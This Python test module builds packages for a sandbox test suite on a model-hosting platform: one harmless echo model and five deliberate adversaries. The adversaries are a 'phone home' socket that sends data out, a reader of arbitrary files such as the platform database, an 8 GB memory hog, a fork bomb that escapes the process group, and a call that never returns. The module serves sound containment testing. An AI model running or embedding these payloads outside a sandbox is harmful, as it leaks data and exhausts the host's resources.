"""Publishable ``python``-runtime packages for sandbox tests: a well-behaved echo and five adversaries.

Each builder writes a package folder (``modelmarket.yaml`` + ``predict.py``) that ``modelmarket publish DIR``
accepts, and returns it. Every model takes ``x`` FP32 [-1, 4] and answers ``y`` FP32 [-1, 4].

The adversaries do their harm in ``predict``, never in ``load``: loading succeeds, the runner reports ready, and
the harm starts with the first call, where the sandbox must contain it. Each one's success is observable, so a
test can tell containment from a quiet failure:

- ``network_package``: answers only if it connected to ``target`` (and sent ``b"leak"``); a refused or
  unreachable connection is an ``OSError``, the runner's 500;
- ``file_reader_package``: answers ``y`` filled with the length of file ``target``;
- ``memory_hog_package``: answers only after holding 8 GB, touched page by page;
- ``fork_bomb_package``: forks until the process limit refuses, retrying forever; it answers (``y`` = number of
  children) only if it made ``max_processes`` children, i.e. no limit stopped it. Each child forks one grandchild
  in a new session (out of the runner's process group: only a cgroup kill reaches it), and every descendant exits
  by itself after ``lifetime_s``, so a run without any limit still cleans up after itself;
- ``never_returns_package``: sleeps forever.

Run the adversaries only sandboxed, or under the ``process`` profile where the host gives a cgroup.
"""

from __future__ import annotations

import copy
import textwrap
from pathlib import Path
from typing import Any

import yaml

PROVIDER = "code-co"
"""The account every package names as provider: create it (role provider) before publishing."""
VERSION = "1.0.0"
PRICE_PER_IU = "0.0010"


def _tensor(name: str) -> dict[str, Any]:
    """A fresh FP32 [-1, 4] declaration: shared objects would make yaml write anchors, which publish refuses."""
    return {"name": name, "datatype": "FP32", "shape": [-1, 4]}


_ECHO = """
class Model:
    def load(self, path):
        self.path = path

    def predict(self, inputs):
        return {"y": inputs["x"] * 2}
"""

_SLOW_ECHO = """
import time

DELAY_S = {delay_s!r}


class Model:
    def load(self, path):
        self.path = path

    def predict(self, inputs):
        time.sleep(DELAY_S)
        return {{"y": inputs["x"] * 2}}
"""

_NETWORK = """
import socket

TARGET = {target!r}


class Model:
    def load(self, path):
        host, _, port = TARGET.rpartition(":")
        self.address = (host, int(port))

    def predict(self, inputs):
        with socket.create_connection(self.address, timeout=5) as sock:
            sock.sendall(b"leak")
        return {{"y": inputs["x"] * 2}}  # reached only if the connection was made
"""

_FILE_READER = """
import numpy as np

TARGET = {target!r}


class Model:
    def load(self, path):
        self.path = path

    def predict(self, inputs):
        with open(TARGET, "rb") as fh:
            size = len(fh.read())
        return {{"y": np.full(inputs["x"].shape, size, dtype=np.float32)}}
"""

_MEMORY_HOG = """
import numpy as np

CHUNK_BYTES = 64 * 1024 * 1024
TOTAL_BYTES = 8 * 1024 * 1024 * 1024


class Model:
    def load(self, path):
        self.path = path

    def predict(self, inputs):
        held = []
        while len(held) * CHUNK_BYTES < TOTAL_BYTES:
            held.append(np.ones(CHUNK_BYTES, dtype=np.uint8))  # ones, not zeros: every page is written
        return {"y": inputs["x"] * 2 + len(held)}  # reached only if nothing stopped it at 8 GB
"""

_FORK_BOMB = """
import os
import time

import numpy as np

MAX_PROCESSES = {max_processes!r}
LIFETIME_S = {lifetime_s!r}


def _descendant():
    # never returns into the runner's code: a forked copy of the server must not answer anything
    try:
        os.setsid()
        try:
            os.fork()  # one grandchild each; parent and grandchild both go on here
        except OSError:
            pass
        time.sleep(LIFETIME_S)
    finally:
        os._exit(0)


class Model:
    def load(self, path):
        self.path = path

    def predict(self, inputs):
        children = 0
        while children < MAX_PROCESSES:
            try:
                pid = os.fork()
            except OSError:
                time.sleep(0.001)  # the process limit: keep pushing, as a real bomb would
                continue
            if pid == 0:
                _descendant()
            children += 1
        return {{"y": np.full(inputs["x"].shape, children, dtype=np.float32)}}  # no limit stopped it
"""

_NEVER_RETURNS = """
import time


class Model:
    def load(self, path):
        self.path = path

    def predict(self, inputs):
        while True:
            time.sleep(1)
"""


def write_package(
    dest: Path,
    name: str,
    source: str,
    summary: str,
    *,
    version: str = VERSION,
    provider: str = PROVIDER,
    sandbox: dict[str, Any] | None = None,
    batching: dict[str, Any] | None = None,
    replicas: dict[str, Any] | None = None,
) -> Path:
    """Write a ``python``-runtime package: ``predict.py`` from ``source`` and its manifest; return ``dest``."""
    dest.mkdir(parents=True, exist_ok=True)
    (dest / "predict.py").write_text(textwrap.dedent(source).lstrip())
    manifest: dict[str, Any] = {
        "name": name,
        "version": version,
        "task": "tabular-regression",
        "modality": "tabular",
        "runtime": "python",
        "provider": provider,
        "license": "MIT",
        "artifacts": [{"path": "predict.py"}],
        "inputs": [_tensor("x")],
        "outputs": [_tensor("y")],
        "pricing": {"unit": "request", "price_per_iu": PRICE_PER_IU, "currency": "EUR"},
        "card": {"summary": summary},
    }
    for key, section in (("sandbox", sandbox), ("batching", batching), ("replicas", replicas)):
        if section is not None:
            manifest[key] = copy.deepcopy(dict(section))
    (dest / "modelmarket.yaml").write_text(yaml.safe_dump(manifest, sort_keys=False))
    return dest


def echo_package(
    dest: Path,
    name: str = "py-echo",
    *,
    sandbox: dict[str, Any] | None = None,
    batching: dict[str, Any] | None = None,
    replicas: dict[str, Any] | None = None,
    version: str = VERSION,
) -> Path:
    """``y = 2 * x``: provider code that does nothing wrong."""
    return write_package(
        dest, name, _ECHO, "Doubles its input.", version=version, sandbox=sandbox, batching=batching, replicas=replicas
    )


def slow_echo_package(
    dest: Path,
    name: str = "py-slow-echo",
    delay_s: float = 1.0,
    *,
    sandbox: dict[str, Any] | None = None,
    batching: dict[str, Any] | None = None,
    replicas: dict[str, Any] | None = None,
    version: str = VERSION,
) -> Path:
    """``y = 2 * x`` after sleeping ``delay_s`` in every call (for timeouts, batching and replica tests)."""
    source = _SLOW_ECHO.format(delay_s=float(delay_s))
    summary = f"Doubles its input after {delay_s:g} s."
    return write_package(
        dest, name, source, summary, version=version, sandbox=sandbox, batching=batching, replicas=replicas
    )


def _required(target: str | None, what: str) -> str:
    if not target:
        raise ValueError(f"target: the {what} this adversary reaches for is required")
    return target


def network_package(
    dest: Path,
    *,
    target: str | None = None,
    sandbox: dict[str, Any] | None = None,
    name: str = "py-network",
    version: str = VERSION,
) -> Path:
    """Connects to ``target`` (``"127.0.0.1:PORT"``) in every call and sends ``b"leak"``; answers only if it did."""
    address = _required(target, "host:port")
    host, sep, port = address.rpartition(":")
    if not sep or not host or not port.isdigit():
        raise ValueError(f"target: {address!r} is not host:port")
    source = _NETWORK.format(target=address)
    return write_package(dest, name, source, "Phones home.", version=version, sandbox=sandbox)


def file_reader_package(
    dest: Path,
    *,
    target: str | None = None,
    sandbox: dict[str, Any] | None = None,
    name: str = "py-file-reader",
    version: str = VERSION,
) -> Path:
    """Reads absolute path ``target`` (the platform's database, say) in every call; answers its length."""
    path = _required(target, "absolute file path")
    if not Path(path).is_absolute():
        raise ValueError(f"target: {path!r} is not an absolute path")
    source = _FILE_READER.format(target=path)
    return write_package(dest, name, source, "Reads a file it should not see.", version=version, sandbox=sandbox)


def memory_hog_package(
    dest: Path,
    *,
    target: str | None = None,
    sandbox: dict[str, Any] | None = None,
    name: str = "py-memory-hog",
    version: str = VERSION,
) -> Path:
    """Holds 64 MB chunks, every page written, up to 8 GB in every call. ``target`` is unused."""
    return write_package(dest, name, _MEMORY_HOG, "Eats memory.", version=version, sandbox=sandbox)


def fork_bomb_package(
    dest: Path,
    *,
    target: str | None = None,
    sandbox: dict[str, Any] | None = None,
    name: str = "py-fork-bomb",
    version: str = VERSION,
    max_processes: int = 2_048,
    lifetime_s: float = 300.0,
) -> Path:
    """Forks until refused, retrying forever (see the module docstring). ``target`` is unused.

    ``max_processes`` children (each with one grandchild) is where it stops and answers: keep it above any pids
    limit the test grants, so an answer means the limit failed.
    """
    source = _FORK_BOMB.format(max_processes=int(max_processes), lifetime_s=float(lifetime_s))
    return write_package(dest, name, source, "Forks without end.", version=version, sandbox=sandbox)


def never_returns_package(
    dest: Path,
    *,
    target: str | None = None,
    sandbox: dict[str, Any] | None = None,
    name: str = "py-never-returns",
    version: str = VERSION,
) -> Path:
    """Sleeps forever in every call. ``target`` is unused."""
    return write_package(dest, name, _NEVER_RETURNS, "Never answers.", version=version, sandbox=sandbox)


ADVERSARIES = {
    "network": network_package,
    "file-reader": file_reader_package,
    "memory-hog": memory_hog_package,
    "fork-bomb": fork_bomb_package,
    "never-returns": never_returns_package,
}
"""Every adversary builder by short name: each takes ``(dest, *, target=None, sandbox=None)``."""
